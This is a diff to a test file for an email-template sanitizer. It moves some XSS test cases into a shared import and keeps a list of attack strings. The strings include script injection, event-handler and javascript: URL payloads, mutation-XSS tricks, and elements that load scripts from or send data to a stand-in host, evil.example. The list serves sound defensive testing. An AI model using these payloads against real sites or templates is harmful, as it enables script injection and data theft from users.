@@ -1,3 +1,4 @@
+import { xssVectors } from '@setter/testing/xss-vectors';
 import { describe, expect, it } from 'vitest';
 import { ownTemplate, problemsOf } from './own-template.ts';
 import { render } from './render.ts';
@@ -27,29 +28,19 @@ const words = {
 } as const;
 const own = (htmlContent: string) => ownTemplate({ ...words, htmlContent }, builtIn);
 
-/** Known ways to run a script, to load from elsewhere or to leave the frame. */
+/** Known ways to run a script, to load from elsewhere or to leave the frame, also by variables. */
 const attacks = [
-  '<script>alert(1)</script>',
+  ...xssVectors,
   '<ScRiPt/src=//evil.example/x.js></sCrIpT>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<img src=x onerror=alert(1)>',
   '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
   '<img src="javascript:alert(1)">',
   '<img src="http://evil.example/pixel">',
   '<img src="https://evil.example/{{firstName}}">',
   '<svg><script>alert(1)</script></svg>',
-  '<svg/onload=alert(1)>',
-  '<svg><style><img src=x onerror=alert(1)></style></svg>',
-  '<math><mtext></mtext><mglyph><style><img src onerror=alert(1)></style></mglyph></math>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
   '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
-  '<a href="javascript:alert(1)">x</a>',
   '<a href="JaVaScRiPt:alert(1)">x</a>',
   '<a href="java&#10;script:alert(1)">x</a>',
   '<a href="&#106;avascript:alert(1)">x</a>',
-  '<a href=" javascript:alert(1)">x</a>',
-  '<a href="//evil.example">x</a>',
-  '<a href="vbscript:msgbox(1)">x</a>',
   '<a href="data:text/html,<script>alert(1)</script>">x</a>',
   '<a href="{{firstName}}">x</a>',
   '<a href="{{firstName}}:{{portalLink}}">x</a>',
@@ -70,19 +61,15 @@ const attacks = [
   '<meta http-equiv=refresh content="0;url=https://evil.example">',
   '<base href="https://evil.example">',
   '<iframe src="https://evil.example"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
   '<object data="https://evil.example"></object>',
   '<embed src="https://evil.example">',
   '<form action="https://evil.example"><input name=password><button formaction=javascript:alert(1)>Go</button></form>',
   '<video><source onerror="alert(1)"></video>',
   '<details open ontoggle=alert(1)>',
-  '<body onload=alert(1)>',
   '<table background="javascript:alert(1)"><tr><td background="https://evil.example">x</td></tr></table>',
   '<!--[if mso]><script>alert(1)</script><![endif]-->',
-  '<![CDATA[<script>alert(1)</script>]]>',
   '<p id=x name=y class=z>x</p>',
   '<b {{firstName}}>x</b>',
-  '"><script>alert(1)</script>',
 ];
 
 const allowedTag =
